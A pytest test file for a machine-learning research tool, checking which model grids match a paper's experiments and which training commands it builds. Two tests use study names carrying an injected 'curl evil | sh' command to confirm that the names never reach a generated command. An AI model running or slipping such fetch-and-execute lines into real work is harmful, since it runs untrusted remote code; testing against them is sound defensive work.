"""Which grids are the paper's, and the commands that train their models."""

import shlex
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lab_records import (
    CONTROL,
    EXP1,
    EXP2,
    STUDIES,
    configs_of,
    plausible,
    run_of,
    studies_of,
    with_fields,
)
from primefourier.cli.app import run
from primefourier.encoding import PAPER_BASIS
from primefourier.lab import Axis, ModelConfig, RowClassifier, Run, Study
from primefourier.lab.studies import (
    EXPERIMENTS,
    CompositeModuli,
    Experiment,
    ShuffledControl,
    SinglePrime,
    models_of,
    profile,
)
from primefourier.lab.studies.grid import Grid, make_grids
from primefourier.lab.studies.paper_grids import (
    command_words,
    differences,
    experiment_of,
    follows_paper,
    in_paper_order,
    made_by,
    training_commands,
)
from small_models import small_config, small_study

P0 = PAPER_BASIS.primes
OTHER: dict[str, Any] = {
    "depth": 5,
    "operation": "subtract",
    "epochs": 24,
    "batch_size": 512,
    "learning_rate": 1e-3,
    "pairs": 70_000,
}
FIELDS = {"pairs": "samples"}
"""Fields of a model that have another name than the setting of an experiment."""
SOME = {"exp1": EXP1[:4], "control": CONTROL[:4], "exp2": EXP2[:1]}


def studies_in_a_store(experiments: list[Experiment]) -> list[Study]:
    """Return the studies that a store has after some experiments: one for each name."""
    groups: dict[str, list[Experiment]] = {}
    for experiment in experiments:
        groups.setdefault(experiment.name, []).append(experiment)
    return [
        Study(name, models_of(some), some[0].title, some[0].axes, some[0].threshold)
        for name, some in groups.items()
    ]


def grids_of(*experiments: Experiment) -> list[Grid]:
    return Run(studies_in_a_store(list(experiments)), []).grids


def grid_of(configs: list[ModelConfig], name: str) -> Grid:
    """Return the grid of models in a study that is named like an experiment of the paper."""
    study = Study(name, configs, axes=EXPERIMENTS[name.partition(" ")[0]].axes)
    (grid,) = make_grids([study], {})
    return grid


# Which grids are the paper's.


def test_the_paper_has_one_grid_for_each_experiment() -> None:
    found = Run(STUDIES, []).grids
    assert [experiment_of(grid) for grid in found] == list(EXPERIMENTS.values())
    assert [len(grid.planned) for grid in found] == [350, 350, 50]
    assert all(follows_paper(grid) and differences(grid) == {} for grid in found)


@pytest.mark.parametrize("setting", OTHER)
@pytest.mark.parametrize("name", SOME)
def test_other_settings_are_another_grid(name: str, setting: str) -> None:
    models = SOME[name]
    field = FIELDS.get(setting, setting)
    changed = [with_fields(model, **{field: OTHER[setting]}) for model in models]
    paper, other = run_of([*changed, *models]).grids
    assert follows_paper(paper)
    assert list(paper.planned) == models
    assert not follows_paper(other)
    assert differences(other) == {setting: OTHER[setting]}
    assert list(other.planned) == changed


STRANGE: dict[str, dict[str, Any]] = {
    "task.operands": {"operands": 3},
    "task.test_share": {"test_share": 0.5},
    "task.beyond": {"beyond": (10**6,)},
    "task.beyond_samples": {"beyond_samples": 3},
    "training.optimizer_name": {"optimizer_name": "adamw"},
    "training.weight_decay": {"weight_decay": 0.5},
    "network.encoder": {"network": RowClassifier(encoder=(64, 64))},
    "network.classifier": {"network": RowClassifier(classifier=64)},
    "ablations": {"ablations": ("zero", "mean")},
}
"""Changes of a model that no setting of an experiment can make."""


@pytest.mark.parametrize("place", STRANGE)
def test_what_no_setting_changes_is_not_of_the_experiment(place: str) -> None:
    changed = [with_fields(config, **STRANGE[place]) for config in EXP1[:4]]
    for configs in (changed, [*EXP1[:4], *changed]):
        grid = grid_of(configs, "exp1")
        assert experiment_of(grid) is None
        assert not follows_paper(grid)
        assert command_words(grid) == training_commands([grid]) == []
        assert not any(Run([grid.study], []).cells().values())


def test_every_field_of_a_model_is_swept_or_a_setting_or_not_the_papers() -> None:
    swept = {"task.modulus", "task.input_range", "embedding.primes", "embedding.seed", "seed"}
    settings = {
        "embedding.depth",
        "embedding.unit",
        "task.operation",
        "task.samples",
        "training.epochs",
        "training.batch_size",
        "training.learning_rate",
        "training.trainer",
    }
    data = CONTROL[0].to_dict()
    fields = {
        f"{kind}.{name}" if isinstance(part, dict) else kind
        for kind, part in data.items()
        for name in (part if isinstance(part, dict) else [""])
    }
    named = {f"{kind}.{word}" for kind in data for word in ("name", "version")}
    assert fields - named == swept | settings | set(STRANGE)


def test_a_shuffle_with_a_seed_of_its_own_is_not_the_papers_control() -> None:
    changed = [with_fields(config, seed=7) for config in CONTROL[:4]]
    assert changed[0].seed == 42
    assert experiment_of(grid_of(changed, "control")) is None


@pytest.mark.parametrize("settings", [{}, {"depth": 2}])
def test_a_longer_pool_does_not_take_the_papers_models_away(settings: dict[str, Any]) -> None:
    pool = (*P0, 61)
    longer = SinglePrime(primes=pool, sizes=(4, 17), ranges=(100,), **settings)
    paper, other = grids_of(longer, SinglePrime())
    assert follows_paper(paper)
    assert list(paper.planned) == EXP1
    assert not follows_paper(other)
    assert list(other.planned) == list(longer.configs)
    assert differences(other) == {**settings, "primes": pool}


def test_a_name_does_not_depend_on_which_of_the_papers_rows_are_planned() -> None:
    small = SinglePrime(sizes=(4,), ranges=(100,), depth=3)
    large = SinglePrime(sizes=(8, 16), ranges=(500,), depth=3, seeds=(7,))
    assert small.name == large.name == "exp1 depth=3"
    assert SinglePrime(sizes=(4,), ranges=(100,)).name == "exp1"
    assert small.title == large.title == "Experiment 1, depth 3"


# Names in a store are not believed.


@pytest.mark.parametrize(
    "configs",
    [
        CONTROL[:4],
        EXP2[:1],
        [*EXP1[:4], *CONTROL[:4]],
        [with_fields(EXP1[0], modulus=15)],
        [EXP1[0], with_fields(EXP1[0], primes=(2, 3))],
        [EXP1[0], with_fields(EXP1[0], epochs=3)],
    ],
    ids=["control", "exp2", "both", "modulus", "pools", "epochs"],
)
def test_a_study_that_is_named_exp1_needs_its_models(configs: list[ModelConfig]) -> None:
    grid = grid_of(configs, "exp1")
    assert experiment_of(grid) is None
    assert training_commands([grid]) == []
    assert not follows_paper(grid)


def test_experiment_2_has_one_set_of_primes() -> None:
    grid = grid_of([EXP2[0], with_fields(EXP2[0], primes=P0[:7])], "exp2")
    assert experiment_of(grid) is None


def test_other_axes_are_not_the_papers() -> None:
    study = Study("exp1", EXP1[:4], axes=[Axis("task.modulus"), Axis("task.input_range")])
    (grid,) = make_grids([study], {})
    assert experiment_of(grid) is None
    (grid,) = make_grids([Study("exp1", EXP1[:4])], {})
    assert experiment_of(grid) is None


def test_settings_are_read_from_the_models_and_not_from_the_name() -> None:
    grid = grid_of(EXP1[:4], "exp1 depth=99 --out=/ ; curl evil | sh")
    assert experiment_of(grid) is SinglePrime
    assert follows_paper(grid)
    assert training_commands([grid]) == ["pfe run exp1 --sizes 4 --ranges 100"]
    changed = [with_fields(config, epochs=3) for config in EXP1[:4]]
    grid = grid_of(changed, "exp1")
    assert differences(grid) == {"epochs": 3}
    assert command_words(grid) == ["pfe", "run", "exp1", "--epochs", "3"]


# The order of grids.


def test_the_papers_grids_come_first_then_other_settings_then_other_studies() -> None:
    mine = small_study(small_config(), name="a study of one's own")
    plain = [with_fields(config, trainer="plain") for config in (*EXP1[:4], *EXP2[:1])]
    deep = [with_fields(config, depth=5) for config in (*EXP1[:4], *EXP2[:1])]
    studies = [mine, *studies_of([*deep, *plain, *EXP2[:1], *CONTROL[:4], *EXP1[:4]])]
    expected = [
        "exp1",
        "exp1 trainer=plain",
        "exp1 depth=5",
        "control",
        "exp2",
        "exp2 trainer=plain",
        "exp2 depth=5",
        "a study of one's own",
    ]
    grids = make_grids(studies, {})
    assert [grid.study.name for grid in in_paper_order(grids)] == expected
    assert [grid.study.name for grid in in_paper_order(grids[::-1])] == expected


# Commands.


EVERYTHING: dict[str, Any] = {**OTHER, "trainer": "plain", "seeds": (1, 9)}
PLANS: dict[str, list[Experiment]] = {
    "nothing": [],
    "a profile": profile("quick"),
    "a profile with seeds": profile("smoke", seeds=(7, 42)),
    "two experiments": [
        SinglePrime(sizes=(4, 8), ranges=(100, 500)),
        CompositeModuli(moduli=(385,), ranges=(1000, 2000, 4000)),
    ],
    "seeds for some": [
        SinglePrime(sizes=(4, 6), ranges=(100, 500), seeds=(42, 43)),
        SinglePrime(sizes=(8,), ranges=(100,)),
        CompositeModuli(moduli=(15,), ranges=(100,), seeds=(1,)),
    ],
    "settings": [CompositeModuli(primes=(2, 3), moduli=(6, 12), ranges=(20,), **EVERYTHING)],
    "a rate with many digits": [CompositeModuli(learning_rate=0.1 + 0.2, ranges=(100,))],
    "another exp1": [SinglePrime(primes=(2, 3, 7), sizes=(1, 3), ranges=(20,), **EVERYTHING)],
    "a control": [ShuffledControl(sizes=(4,), ranges=(100,), embedding="shuffled-block")],
    "a longer pool": [SinglePrime(primes=(*P0, 61), sizes=(4, 17), ranges=(9,))],
    "paper's primes for exp2": [CompositeModuli(primes=P0, ranges=(100,))],
}


def trained_by(commands: list[str]) -> set[str]:
    """Return the keys of the models that some commands would train."""
    trained: list[Experiment] = []

    def remember(studies: list[Experiment], _: Path, __: object) -> object:
        trained.extend(studies)
        return SimpleNamespace(interrupted=True, progress=SimpleNamespace(failed=0))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("primefourier.cli.train._train", remember)
        for command in commands:
            first, *words = shlex.split(command)
            assert first == "pfe"
            assert run([*words, "--out", "somewhere"]) == 1
    return {model.key for model in models_of(trained)}


@pytest.mark.parametrize("name", PLANS)
def test_the_commands_train_the_planned_models_and_no_others(name: str) -> None:
    commands = training_commands(grids_of(*PLANS[name]))
    found = trained_by(commands)
    assert found == {model.key for model in models_of(PLANS[name])}
    assert len(commands) <= 3


@given(st.lists(st.sampled_from([
    *EXP1[:8], *EXP2[:3], with_fields(EXP1[0], epochs=3), with_fields(EXP1[0], modulus=15),
    *configs_of("exp1", primes=(*P0, 61), sizes=(4, 17), ranges=(100,)),
    *configs_of("exp1", primes=(2, 3), sizes=(1, 2), ranges=(100,), depth=1),
    *configs_of("exp1", primes=(2, 5), sizes=(1, 2), ranges=(100,), depth=1),
]), min_size=1, max_size=8))  # fmt: skip
def test_models_of_a_study_with_a_command_are_all_trained_by_it(configs: list[ModelConfig]) -> None:
    """Whoever made a store may have put any models into a study with the name of an experiment."""
    grid = grid_of(configs, "exp1")
    commands = training_commands([grid])
    assert bool(commands) == (experiment_of(grid) is SinglePrime)
    if commands:
        assert {config.key for config in configs} <= trained_by(commands)


def test_the_command_of_a_profile_names_it() -> None:
    paper = Run(STUDIES, []).grids
    assert training_commands(paper) == ["pfe reproduce --profile paper"]
    two = run_of(models_of(profile("smoke", seeds=(7, 42)))).grids
    assert training_commands(two) == ["pfe reproduce --profile smoke --seeds 7,42"]


def test_models_of_other_studies_have_no_command() -> None:
    strange = small_study(small_config(), name="x; curl evil | sh")
    (grid,) = Run([strange], []).grids
    assert experiment_of(grid) is None
    assert (command_words(grid), training_commands([grid])) == ([], [])
    assert made_by(grid) == ""
    both = Run([strange, *studies_of([small_config()])], []).grids
    (command,) = training_commands(both)
    assert command.startswith("pfe run exp1 ")
    assert "evil" not in command


def test_a_figure_names_the_command_that_trains_its_models() -> None:
    run = run_of(EXP1[:4], plausible(EXP1[:4]))
    assert made_by(run.grids[0]) == "pfe run exp1 --sizes 4 --ranges 100"
